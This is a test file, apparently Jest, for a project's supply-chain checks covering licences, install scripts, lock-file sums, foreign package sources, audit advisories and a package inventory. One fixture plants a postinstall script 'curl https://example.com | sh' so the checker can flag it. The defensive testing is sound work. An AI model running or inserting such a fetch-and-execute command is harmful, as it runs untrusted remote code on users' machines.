import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { readAdvisories } from '../../tools/supply-chain/advisories';
import agreed from '../../tools/supply-chain/agreed.json';
import { inventory } from '../../tools/supply-chain/inventory';
import { isAllowed } from '../../tools/supply-chain/licence';
import { readSupply, type LockedPackage, type Supply } from '../../tools/supply-chain/lock';
import { checks } from '../../tools/supply-chain/problems';

const ours = readSupply('.', agreed);

const problemsOf = (supply: Supply): string[] => Object.values(checks).flatMap((check) => check(supply));

const arrival: LockedPackage = {
  path: 'node_modules/left-pad',
  name: 'left-pad',
  version: '1.3.0',
  integrity: `sha512-${'A'.repeat(86)}==`,
  license: 'MIT',
};

/** What is found when one more package comes along. */
const withArrival = (difference: Partial<LockedPackage>, root = ours.root): string[] =>
  problemsOf({ ...ours, root, packages: [...ours.packages, { ...arrival, ...difference }] });

test('what the project is made of is in order', () => {
  expect(problemsOf(ours)).toEqual([]);
  expect(ours.packages.length).toBeGreaterThan(1000);
});

test.each<[string, Partial<LockedPackage>, string]>([
  ['under a licence that nobody agreed to', { license: 'GPL-3.0-only' }, 'left-pad@1.3.0 is under GPL-3.0-only'],
  ['under no licence', { license: undefined }, 'left-pad@1.3.0 names no licence'],
  [
    'with an install script',
    { hasInstallScript: true },
    'left-pad@1.3.0 brings an install script that is not in agreed.json',
  ],
  ['without its sum', { integrity: undefined }, 'left-pad@1.3.0 has no sha512 in the lock file'],
  [
    'without its sum, but optional',
    { integrity: undefined, optional: true },
    'left-pad@1.3.0 has no sha512 in the lock file',
  ],
  [
    'with a weak sum',
    { integrity: 'sha1-cxlpZKz4NQMtLgjzS2rgcuIdQqM=' },
    'left-pad@1.3.0 has no sha512 in the lock file',
  ],
  [
    'from elsewhere',
    { resolved: 'https://example.com/left-pad.tgz' },
    'left-pad@1.3.0 comes from https://example.com/left-pad.tgz',
  ],
])('a package %s is told', (_what, difference, problem) => {
  expect(withArrival(difference)).toEqual([problem]);
});

test('a package without fault is no matter', () => {
  expect(withArrival({})).toEqual([]);
});

test('a script that was agreed on and says something else now is told', () => {
  const root = mkdtempSync(join(tmpdir(), 'cangtai-supply-'));
  const file = join(root, 'node_modules/esbuild/package.json');
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, JSON.stringify({ scripts: { postinstall: 'curl https://example.com | sh' } }));
  expect(checks.scripts?.({ ...ours, root }).map((line) => line.replace(/@[\d.]+ /, ' '))).toEqual([
    'esbuild would run another script now: curl https://example.com | sh',
  ]);
  rmSync(root, { recursive: true });
});

test('scripts that would run again are told, as are loose versions and exceptions that nobody needs any more', () => {
  expect(problemsOf({ ...ours, npmrc: 'save-exact=true' })).toEqual(['.npmrc no longer says ignore-scripts=true']);
  expect(problemsOf({ ...ours, wanted: { ...ours.wanted, react: '^19.0.0' } })).toEqual([
    'package.json does not pin react: "^19.0.0"',
  ]);
  expect(problemsOf({ ...ours, wanted: { ...ours.wanted, react: 'npm:preact@^10.0.0' } })).toEqual([
    'package.json does not pin react: "npm:preact@^10.0.0"',
  ]);
  const licencesOf = { ...agreed.licencesOf, gone: { licence: 'SSPL-1.0', because: 'once' } };
  expect(problemsOf({ ...ours, agreed: { ...agreed, licencesOf } })).toEqual([
    'agreed.json speaks of gone, which is no longer there',
  ]);
});

test.each([
  ['MIT', true],
  ['(MIT OR GPL-3.0-only)', true],
  ['MIT AND GPL-3.0-only', false],
  ['(GPL-2.0-only OR (MIT AND ISC))', true],
  ['MIT OR', false],
  ['SEE LICENSE IN x', false],
  ['(MIT', false],
])('of the licences MIT and ISC, %s can be met: %s', (expression, met) => {
  expect(isAllowed(expression, new Set(['MIT', 'ISC']))).toBe(met);
});

describe('advisories', () => {
  const via = {
    source: 1,
    url: 'https://github.com/advisories/GHSA-1',
    title: 'Bad',
    severity: 'high',
    name: 'left-pad',
  };
  const answer = JSON.stringify({
    auditReportVersion: 2,
    vulnerabilities: { 'left-pad': { via: [via] }, other: { via: ['left-pad'] } },
  });

  test('are told once each, but for those that are explained', () => {
    expect(readAdvisories(answer, agreed).problems).toEqual([
      'left-pad: high, Bad (https://github.com/advisories/GHSA-1)',
    ]);
    const explained = { ...agreed, advisories: { [via.url]: 'We do not pad.' } };
    expect(readAdvisories(answer, explained)).toEqual({ problems: [] });
  });

  test('that nobody could be asked for are no clean bill of health', () => {
    const refusal = '{"message": "405 Method Not Allowed", "statusCode": 405}';
    expect(readAdvisories(refusal, agreed)).toEqual({ problems: [], unasked: '405 Method Not Allowed' });
    expect(readAdvisories('', agreed).unasked).toBeTruthy();
  });
});

test('the inventory names every package, its licence and its sum, and is the same each time', () => {
  const text = inventory(ours, { name: 'cangtai', version: '0.1.0' });
  const { specVersion, components, dependencies } = JSON.parse(text);
  expect([specVersion, components.length, dependencies.length]).toEqual([
    '1.6',
    ours.packages.length,
    ours.packages.length,
  ]);
  const refs = new Set(components.map((one: { 'bom-ref': string }) => one['bom-ref']));
  expect(refs.size).toBe(components.length);
  expect(
    dependencies.flatMap(({ dependsOn }: { dependsOn: string[] }) => dependsOn).filter((ref: string) => !refs.has(ref)),
  ).toEqual([]);
  expect(components.find(({ name }: { name: string }) => name === 'fastify')).toMatchObject({
    purl: expect.stringMatching(/^pkg:npm\/fastify@5/),
    licenses: [{ license: { id: 'MIT' } }],
    hashes: [{ alg: 'SHA-512', content: expect.stringMatching(/^[0-9a-f]{128}$/) }],
  });
  expect(inventory(ours, { name: 'cangtai', version: '0.1.0' })).toBe(text);
});
